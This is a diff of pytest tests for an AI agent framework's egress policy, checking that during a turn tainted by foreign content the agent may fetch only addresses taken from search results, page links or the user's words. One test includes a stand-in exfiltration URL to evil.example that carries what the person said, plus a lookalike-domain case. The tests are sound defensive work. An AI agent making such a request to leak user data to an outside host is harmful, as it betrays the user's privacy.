@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import gzip
 import ipaddress
 import itertools
@@ -15,9 +16,12 @@ import pytest
 from tests.tools.web_server import certificate_for, connect_proxy, moved, page, site
 
 from microclaw.errors import MicroclawError, PermissionRefused, ToolFailed, ToolRetry
+from microclaw.policy.approval import Approvals, Pending, Settled
 from microclaw.policy.egress import Address, Egress, why_not_public
 from microclaw.policy.gate import Gate
 from microclaw.tools.fetching import Fetcher, FetchLimits
+from microclaw.tools.known_addresses import MAX_ADDRESSES, MAX_CHATS, KnownAddresses
+from microclaw.tools.search_engines import Hit
 from microclaw.tools.tool import ToolContext, ToolResult
 from microclaw.tools.toolbox import Toolbox
 from microclaw.tools.web import PAGE_CHARS, web_tools
@@ -213,3 +217,68 @@ async def test_what_is_asked_of_strangers_is_not_logged(caplog: pytest.LogCaptur
     async with site(lambda _: page(HELLO)) as web:
         await fetcher().fetch(f"http://page.example:{web.port}/?q=private")
     assert "private" not in caplog.text
+
+
+class Turn:
+    """Calls of one tainted turn in which the person said these words; `asked` is what was asked for."""
+
+    def __init__(self, words: str = "") -> None:
+        self.asked: list[Pending] = []
+        self.approvals = Approvals(timeout_s=5)
+        self.approvals.listen(self.hear)
+        self.tools = Toolbox(web_tools(fetcher=fetcher(), engine=Engine()), Gate(approvals=self.approvals))
+        self.context = ToolContext("owner", lambda step: None, foreign=True, said=lambda: words)
+
+    def hear(self, news: Pending | Settled) -> None:
+        if isinstance(news, Pending):
+            self.asked.append(news)
+            asyncio.get_running_loop().call_soon(
+                lambda: self.approvals.decide(news.approval_id, approved=False, by="owner")
+            )
+
+    async def call(self, name: str, **arguments: Any) -> ToolResult:
+        return await self.tools.call(name, json.dumps(arguments), self.context)
+
+
+class Engine:
+    port = 0
+
+    async def search(self, query: str, count: int) -> tuple[Hit, ...]:
+        return (Hit("A hit", f"http://hit.example:{self.port}/found?a=1", "text"),)
+
+
+async def test_a_tainted_turn_carries_nothing_away_in_an_address_of_its_own() -> None:
+    async with site(lambda _: page(HELLO)) as web:
+        turn = Turn("read the page please")
+        result = await turn.call("web_fetch", url=f"http://evil.example:{web.port}/?what=the+person+said")
+    assert (result.ok, result.error_code) == (False, "permission_refused")
+    assert turn.asked[0].detail[0] == f"url: http://evil.example:{web.port}/?what=the+person+said"
+    assert web.targets == []
+
+
+async def test_a_tainted_turn_reads_on_where_search_links_and_the_person_lead(monkeypatch: pytest.MonkeyPatch) -> None:
+    linked = page(HELLO.replace("</body>", "<a href='/linked?b=2'>more</a></body>"))
+    async with site(lambda _: linked) as web:
+        monkeypatch.setattr(Engine, "port", web.port)
+        turn = Turn(f"look at page.example:{web.port}/said, and www.other.example:{web.port}.")
+        assert (await turn.call("web_search", query="x")).ok
+        for url in (
+            "hit.example:{}/found?a=1",
+            "hit.example:{}/linked?b=2",
+            "page.example:{}/said",
+            "other.example:{}/",
+        ):
+            assert (await turn.call("web_fetch", url="http://" + url.format(web.port))).ok, url
+        assert turn.asked == []
+        for url in ("hit.example:{}/found?a=2", "page.example:{}/said?x", "page.example.evil.example:{}/said"):
+            assert not (await turn.call("web_fetch", url="http://" + url.format(web.port))).ok, url
+    assert len(turn.asked) == 3
+
+
+def test_addresses_of_many_chats_are_bounded() -> None:
+    known = KnownAddresses()
+    for chat in range(MAX_CHATS + 1):
+        known.note(("t", str(chat)), (f"https://page.example/{number}" for number in range(MAX_ADDRESSES + 1)))
+    assert (("t", "0"), f"https://page.example/{MAX_ADDRESSES}") not in known
+    assert (("t", "1"), "https://page.example/0") not in known
+    assert (("t", "1"), f"http://www.page.example/{MAX_ADDRESSES}/") in known
